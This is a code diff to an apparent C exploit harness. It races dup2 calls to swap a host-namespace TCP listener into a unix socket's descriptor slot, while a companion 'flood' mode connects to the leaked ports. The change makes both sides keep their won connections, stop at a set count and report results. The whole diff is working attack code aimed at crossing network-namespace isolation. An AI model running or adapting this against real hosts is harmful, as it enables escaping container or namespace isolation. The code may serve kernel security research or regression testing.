@@ -179,18 +179,23 @@ static int listen_three(int argc, char **argv)
 }
 
 /*
- * "swapped SECONDS": puts a TCP socket of the host in the place of a unix one
- * while that listens. Each has a port, which is told in time for an accomplice
- * to flood it.
+ * "swapped COUNT": puts a TCP socket of the host in the place of a unix one
+ * while that listens, until COUNT of them listen on the host. Each has a port,
+ * which is told in time for an accomplice to flood it. The last one stays open,
+ * and so do all connections. When standard input ends, it says how many of
+ * these have heard something.
  */
+enum { LISTEN_KEPT = 256 };
+
 static struct {
 	int unix_socket, number;
 	atomic_int host;
+	atomic_bool over;
 } listen_swap;
 
 static void *listen_swapper(void *arg)
 {
-	for (;;) {
+	while (!atomic_load(&listen_swap.over)) {
 		dup2(atomic_load(&listen_swap.host), listen_swap.number);
 		dup2(listen_swap.unix_socket, listen_swap.number);
 	}
@@ -213,10 +218,20 @@ static int listen_host_socket(void)
 	return fd;
 }
 
+/* How many of some connections something has come by. */
+static int listen_heard(const int *conns, int count)
+{
+	int heard = 0;
+	char word[8];
+
+	for (int i = 0; i < count; i++)
+		heard += recv(conns[i], word, sizeof(word), MSG_DONTWAIT) > 0;
+	return heard;
+}
+
 static int listen_swapped(int argc, char **argv)
 {
-	int won = 0, accepted = 0, heard = 0;
-	char word[8];
+	int won = 0, accepted = 0, wanted = atoi(argv[argc - 1]), kept[LISTEN_KEPT];
 	struct sockaddr_un name = {.sun_family = AF_UNIX};
 	uint64_t host;
 	pthread_t thread;
@@ -228,72 +243,90 @@ static int listen_swapped(int argc, char **argv)
 	host = attack_netns(listen_swap.host);
 	dup2(listen_swap.unix_socket, listen_swap.number);
 	pthread_create(&thread, NULL, listen_swapper, NULL);
-	while (!attack_late(atoi(argv[argc - 1]))) {
-		int old = listen_swap.host, conn;
+	for (;;) {
+		int old = listen_swap.host, conn = -1;
 
 		listen(listen_swap.number, 50);
 		if (!attack_listens(old))
 			continue;
 		if (attack_netns(old) == host) {
-			won++;
-			usleep(500);
+			usleep(500); /* the accomplice may need it */
 			fcntl(old, F_SETFL, O_NONBLOCK);
-			conn = accept(old, NULL, NULL);
+			if (accepted < LISTEN_KEPT)
+				conn = accept(old, NULL, NULL);
 			if (conn >= 0) {
-				/* What is asked may have come with the handshake. */
 				send(conn, "out", 3, MSG_NOSIGNAL);
-				heard += recv(conn, word, sizeof(word), 0) > 0;
-				accepted++;
+				kept[accepted++] = conn;
 			}
-			close(conn);
+			if (++won == wanted)
+				break;
 		}
 		atomic_store(&listen_swap.host, listen_host_socket());
 		close(old);
 	}
-	attack_note("won", "%d", won);
+	atomic_store(&listen_swap.over, true);
+	attack_hold();
 	attack_note("accepted", "%d", accepted);
-	attack_note("heard", "%d", heard);
+	attack_note("heard", "%d", listen_heard(kept, accepted));
 	_exit(0);
 }
 
 /*
- * "flood ADDR": connects to the ports that standard input names, until it ends,
- * and says when somebody answers.
+ * "flood ADDR": connects to the ports that standard input names, and keeps the
+ * connections. At the port 0 it stops and connects to ADDR, from the CPU that all
+ * of it came from. When standard input ends, it says how many have heard something.
  */
-static atomic_int listen_target;
+static atomic_int listen_target = -1;
 
 static void *listen_read_targets(void *arg)
 {
 	char line[32];
 
-	while (fgets(line, sizeof(line), stdin) != NULL)
+	while (fgets(line, sizeof(line), stdin) != NULL && atoi(line) != 0)
 		atomic_store(&listen_target, atoi(line));
-	_exit(0);
+	atomic_store(&listen_target, 0);
 	return arg;
+}
+
+static void listen_follow(const struct attack_addr *to)
+{
+	int fd = attack_socket(AF_INET, SOCK_STREAM);
+
+	attack_need("connect to what is open", connect(fd, &to->sa, to->len));
+	send(fd, "sentinel of the flood", 21, MSG_NOSIGNAL);
+	close(fd);
 }
 
 static int listen_flood(int argc, char **argv)
 {
-	struct attack_addr to = attack_addr(argv[argc - 1]);
-	struct timeval patience = {.tv_usec = 200000};
+	struct attack_addr end = attack_addr(argv[argc - 1]), to = end;
+	/* Decides nothing: what is not answered is tried again. */
+	struct timeval pace = {.tv_usec = 200000};
 	struct linger reset = {1, 0};
+	int port, count = 0, kept[LISTEN_KEPT];
 	pthread_t thread;
-	char word[8];
 
 	pthread_create(&thread, NULL, listen_read_targets, NULL);
-	for (;;) {
+	attack_pin();
+	attack_note("ready", "ok");
+	while ((port = atomic_load(&listen_target)) != 0) {
 		int fd = socket(AF_INET, SOCK_STREAM, 0);
 
 		setsockopt(fd, SOL_SOCKET, SO_LINGER, &reset, sizeof(reset));
-		to.in.sin_port = htons((uint16_t)atomic_load(&listen_target));
-		setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof(patience));
-		if (connect(fd, &to.sa, to.len) == 0) {
+		setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &pace, sizeof(pace));
+		to.in.sin_port = htons((uint16_t)port);
+		if (port > 0 && count < LISTEN_KEPT && connect(fd, &to.sa, to.len) == 0) {
 			send(fd, "in", 2, MSG_NOSIGNAL);
-			if (recv(fd, word, sizeof(word), 0) > 0)
-				attack_note("answered", "ok");
+			kept[count++] = fd;
+		} else {
+			close(fd);
 		}
-		close(fd);
 	}
+	pthread_join(thread, NULL);
+	listen_follow(&end);
+	attack_hold();
+	attack_note("connected", "%d", count);
+	attack_note("heard", "%d", listen_heard(kept, count));
 	return 0;
 }
 
